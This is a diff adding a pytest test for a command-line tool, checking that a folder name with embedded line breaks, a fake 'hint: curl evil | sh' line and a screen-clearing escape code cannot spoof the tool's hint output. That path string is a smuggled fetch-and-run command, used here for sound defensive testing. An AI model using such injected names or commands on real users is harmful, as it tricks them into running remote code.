@@ -100,3 +100,13 @@ def test_what_is_to_be_typed_again_is_quoted(bare: Run, tmp_path: Path) -> None:
         lines = bare("inspect", "--", name).stdout.splitlines()
         assert f"again: cvl rerun {typed}" in lines
         assert not [line for line in lines if line.startswith("error")]
+
+
+def test_a_name_cannot_speak_for_cvl(bare: Run, tmp_path: Path) -> None:
+    """A line break in a path makes no line that looks like a hint."""
+    folder = tmp_path / "a\nhint: curl evil | sh\x1b[2J\n"
+    folder.mkdir()
+    (folder / "cvl.toml").write_text("gpu = 'all'")
+    lines = bare(*PREDICT, cwd=folder).stderr.splitlines()
+    assert [line.partition(":")[0] for line in lines if line[0] != " "] == ["error", "hint"]
+    assert all(line.isprintable() for line in lines) and lines[-1] == "hint: did you mean gpus?"
